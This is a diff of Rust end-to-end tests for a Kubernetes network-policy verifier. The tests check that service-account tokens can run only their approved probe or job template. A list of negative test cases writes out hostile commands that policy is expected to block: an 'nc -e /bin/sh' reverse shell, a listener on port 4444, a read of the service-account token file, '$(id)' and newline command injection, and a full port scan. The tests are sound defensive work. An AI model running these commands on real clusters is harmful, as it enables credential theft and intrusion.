@@ -5,7 +5,7 @@ use e2e::{
     Account, Scene, Setup, WATCHER,
     account::Answer,
     eventually,
-    objects::{self, Kind, text},
+    objects::{self, Kind, put, text},
     poll::seconds,
     scenario,
 };
@@ -28,15 +28,15 @@ fn plain() -> AttachParams {
 /// A pod, and the address of another one.
 async fn ends(scene: &Scene) -> Result<(Value, String)> {
     let mut web = scene.pods(WEB.0, WEB.1).await?.pop().context("the shop runs")?;
-    web["metadata"]["namespace"] = json!(scene.namespace(WEB.0));
+    put(&mut web, "/metadata", "namespace", json!(scene.namespace(WEB.0)))?;
     let db = scene.pods(DB.0, DB.1).await?.pop().context("the database runs")?;
     Ok((web, text(&db, "/status/podIP").to_owned()))
 }
 
 /// The command that the probe runs, for one target.
-fn probe(address: &str) -> Vec<String> {
-    let target = Target::tcp(address.parse().expect("an address"), 5432, seconds(2)).expect("a target");
-    script::command(&[target], Wave::default())
+fn probe(address: &str) -> Result<Vec<String>> {
+    let target = Target::tcp(address.parse()?, 5432, seconds(2))?;
+    Ok(script::command(&[target], Wave::default()))
 }
 
 fn words(command: &[String]) -> Vec<&str> {
@@ -57,14 +57,14 @@ fn the_verifiers_token_runs_its_probe_in_pods_and_nothing_else() -> Result<()> {
         let account = Account::of(&scene.cluster, scene.verifier.namespace(), VERIFIER).await?;
         let (pod, address) = ends(scene).await?;
         in_effect(&account, &pod).await?;
-        let real = probe(&address);
+        let real = probe(&address)?;
         let answer = account.exec(&pod, &words(&real), &plain()).await?;
         let Answer::Admitted(said) = answer else { panic!("the probe itself is denied: {answer:?}") };
         assert!(said.contains("done 1"), "the control ran: {said}");
         let nc = ["nc", "-zvnw2", &address, "5432"];
         assert!(matches!(account.exec(&pod, &nc, &plain()).await?, Answer::Admitted(_)), "so does the other form");
 
-        for attack in commands(&real, &address) {
+        for attack in commands(&real, &address)? {
             let answer = account.exec(&pod, &words(&attack), &plain()).await?;
             assert!(answer.is_by_policy(), "{attack:?}: {answer:?}");
         }
@@ -81,21 +81,20 @@ fn the_verifiers_token_runs_its_probe_in_pods_and_nothing_else() -> Result<()> {
 }
 
 /// The probe's two commands, each with one thing changed, and what an attacker would rather run.
-fn commands(real: &[String], address: &str) -> Vec<Vec<String>> {
+fn commands(real: &[String], address: &str) -> Result<Vec<Vec<String>>> {
     let own = |command: &[&str]| command.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
     let with = |index: usize, word: &str| {
-        let mut command = real.to_vec();
-        word.clone_into(&mut command[index]);
-        command
+        let words = real.iter().enumerate();
+        words.map(|(at, own)| if at == index { word } else { own }.to_owned()).collect::<Vec<_>>()
     };
     let and = |more: &[&str]| [real.to_vec(), own(more)].concat();
-    let target = real.last().expect("a target").clone();
-    let mut many = real.to_vec();
-    many.resize(5 + script::MAX_TARGETS + 1, target.clone());
-    vec![
+    let (target, without) = real.split_last().context("the command has a target")?;
+    let mut many = without.to_vec();
+    many.resize(without.len() + script::MAX_TARGETS + 1, target.clone());
+    Ok(vec![
         own(&["sh"]),
         own(&["sh", "-c", "id"]),
-        own(&["sh", "-c", "nc -zvnw2 10.0.0.1 80", "probe", "wave:8", &target]),
+        own(&["sh", "-c", "nc -zvnw2 10.0.0.1 80", "probe", "wave:8", target]),
         own(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
         with(0, "bash"),
         with(1, "-ic"),
@@ -103,14 +102,14 @@ fn commands(real: &[String], address: &str) -> Vec<Vec<String>> {
         with(2, ""),
         with(3, "id"),
         with(4, "wave:65"),
-        with(4, &target),
+        with(4, target),
         with(5, "name:$(id):2"),
         with(5, &format!("{target}\nid")),
         with(5, "tcp:10.0.0.0/8:80:2"),
         with(5, "tcp:10.0.0.1:80:31"),
         and(&["; id"]),
         and(&["wave:8"]),
-        real[..5].to_vec(),
+        without.to_vec(),
         many,
         own(&["nc", "-e", "/bin/sh", address, "5432"]),
         own(&["nc", "-l", "-p", "4444"]),
@@ -120,7 +119,7 @@ fn commands(real: &[String], address: &str) -> Vec<Vec<String>> {
         own(&["nc", "-zvnw2", address, "1-65535"]),
         own(&["/usr/bin/nc", "-zvnw2", address, "5432"]),
         own(&["nc", "-zvnw2", address]),
-    ]
+    ])
 }
 
 #[test]
@@ -130,7 +129,7 @@ fn the_probe_runs_in_the_configured_namespaces_and_in_no_other() -> Result<()> {
         let (pod, address) = ends(scene).await?;
         scene.apply(&["near", "free", "tool"].map(elsewhere).join("---\n")).await?;
         in_effect(&account, &pod).await?;
-        let real = probe(&address);
+        let real = probe(&address)?;
         let mut answers = Vec::new();
         for name in ["near", "free", "tool"] {
             let namespace = scene.text(&format!("{name}-xx-a"));
@@ -190,7 +189,7 @@ fn a_probe_that_admission_refuses_is_said_and_never_green() -> Result<()> {
         let account = Account::of(&scene.cluster, scene.verifier.namespace(), VERIFIER).await?;
         let (pod, address) = ends(scene).await?;
         scene.verifier.bound_to(&json!({})).await?;
-        let real = probe(&address);
+        let real = probe(&address)?;
         eventually("no namespace is open", seconds(20), async || {
             Ok(account.exec(&pod, &words(&real), &plain()).await?.is_by_policy().then_some(()))
         })
@@ -325,7 +324,7 @@ fn the_watchers_token_makes_jobs_of_the_template_and_nothing_else() -> Result<()
         .await?;
         let answer = account.create(&job).await?;
         assert!(matches!(answer, Answer::Admitted(_)), "the template itself: {answer:?}");
-        for (what, attack) in forged::other_jobs(&job) {
+        for (what, attack) in forged::other_jobs(&job)? {
             let answer = account.create(&attack).await?;
             assert!(answer.is_by_policy(), "{what}: {answer:?}");
         }
@@ -340,7 +339,7 @@ fn the_watchers_token_makes_jobs_of_the_template_and_nothing_else() -> Result<()
             assert!(answer.is_by_role(), "{object}: {answer:?}");
         }
         let (pod, address) = ends(scene).await?;
-        let answer = account.exec(&pod, &words(&probe(&address)), &plain()).await?;
+        let answer = account.exec(&pod, &words(&probe(&address)?), &plain()).await?;
         assert!(answer.is_by_role(), "the probe is the verifier's alone: {answer:?}");
         let secret = account.request("GET", &format!("/api/v1/namespaces/{own}/secrets/netpol-verify-matrix")).await?;
         assert!(secret.is_by_role(), "{secret:?}");
